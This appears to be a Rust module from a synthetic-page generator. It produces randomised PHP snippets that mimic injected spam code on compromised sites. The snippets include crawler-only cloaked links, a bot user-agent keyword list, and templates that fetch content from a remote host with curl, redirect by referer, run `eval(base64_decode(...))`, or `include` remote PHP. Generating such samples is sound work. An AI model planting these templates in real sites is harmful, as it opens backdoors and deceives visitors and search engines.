//! Server code that shows search engines what people do not see, leaked into the page because the server did not run it.
use super::catalogue::Job;
use super::dice::Dice;
use super::kit::Kit;
use super::obfuscate::variable;
use super::place::Place;

const BOTS: [&str; 12] = [
    "google",
    "googlebot",
    "bing",
    "bingbot",
    "yahoo",
    "slurp",
    "baidu",
    "baiduspider",
    "yandex",
    "bot",
    "spider",
    "crawl",
];

/// In front of the page, or where a template was edited.
const PLACES: [(Place, u32); 5] =
    [(Place::Start, 6), (Place::Head, 2), (Place::BodyTop, 1), (Place::BodyEnd, 2), (Place::Footer, 1)];

/// The condition: the agent is one of a few.
fn test(dice: &mut Dice) -> String {
    let agent = match dice.range(0..=3) {
        0 => "$_SERVER[HTTP_USER_AGENT]",
        1 => "$_SERVER['HTTP_USER_AGENT']",
        2 => "$_SERVER[\"HTTP_USER_AGENT\"]",
        _ => "getenv('HTTP_USER_AGENT')",
    };
    let (one, two) = (dice.word(&BOTS), dice.word(&BOTS));
    match dice.range(0..=4) {
        0 => format!("preg_match('/{one}/i', {agent})"),
        1 => format!("preg_match(\"/({one}|{two})/i\",{agent})"),
        2 => format!("strpos(strtolower({agent}),'{one}')!==false"),
        3 => format!("stristr({agent}, \"{one}\") || stristr({agent}, \"{two}\")"),
        _ => format!("eregi(\"{one}|{two}\",{agent})"),
    }
}

fn open(dice: &mut Dice) -> &'static str {
    dice.weighted_word(&[("<?php ", 6), ("<?php\n", 4), ("<? ", 2)])
}

/// Links printed for search engines only; without the server they stand in the page.
pub(crate) fn cloaked_links(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let count = dice.log_range(2..=25);
    let links = list(dice, kit, count);
    let (open, test) = (open(dice), test(dice));
    let name = variable(dice);
    let block = match dice.range(0..=3) {
        0 => format!("{open}\nif({test}) {{\necho <<<{name}\n{links}\n{name};\n}}\n?>"),
        1 => format!("{open}if ({test}) {{ ?>\n{links}\n<?php }} ?>"),
        2 => format!("{open}if({test}){{echo '{}';}}?>", links.replace('\'', "\\'")),
        _ => format!(
            "{open}if (in_array($_SERVER['REQUEST_URI'], array(\"/\",\"/{}\"))) {{ ?>\n{links}\n<?php }} ?>",
            super::words::name(dice)
        ),
    };
    job.put(&PLACES, &block)
}

fn list(dice: &mut Dice, kit: &Kit, count: usize) -> String {
    let join = dice.word(&["\n", " ", ", ", "<br>\n"]);
    (0..count).map(|_| kit.link(dice)).collect::<Vec<_>>().join(join)
}

/// A test of the agent that fetches what to show, or runs a hidden text.
pub(crate) fn agent_test(job: &mut Job<'_, '_>) -> bool {
    let (kit, dice) = (job.kit, &mut job.block);
    let (open, test) = (open(dice), test(dice));
    let host = kit.host(dice);
    let (a, b) = (variable(dice), variable(dice));
    let path = super::words::name(dice);
    let block = match dice.range(0..=4) {
        0 => format!(
            "{open}$_{a} = \"...\".mb_strtolower($_SERVER[HTTP_USER_AGENT]);if (strpos($_{a},\"{}\")){{$ch = curl_init(); \
             curl_setopt($ch, CURLOPT_URL, \"http://{host}/{path}/?useragent=$_{a}&domain=$_SERVER[HTTP_HOST]\"); \
             $_{b} = curl_exec($ch); curl_close ($ch); echo $_{b};}}?>",
            dice.pick(&BOTS)
        ),
        1 => format!("{open}if({test}){{echo file_get_contents('http://{host}/{path}.txt');exit;}}?>"),
        2 => format!(
            "{open}if(preg_match('/{}|{}/i',$_SERVER['HTTP_REFERER'])){{header('Location: http://{host}/{path}');exit;}}?>",
            dice.pick(&BOTS),
            dice.pick(&BOTS)
        ),
        3 => {
            let length = dice.range(60..=600);
            let code =
                dice.letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", length);
            format!("{open}@eval(base64_decode(\"{code}==\"));?>")
        }
        _ => format!("{open}if({test}){{include('http://{host}/{path}.php');}}?>"),
    };
    job.put(&PLACES, &block)
}
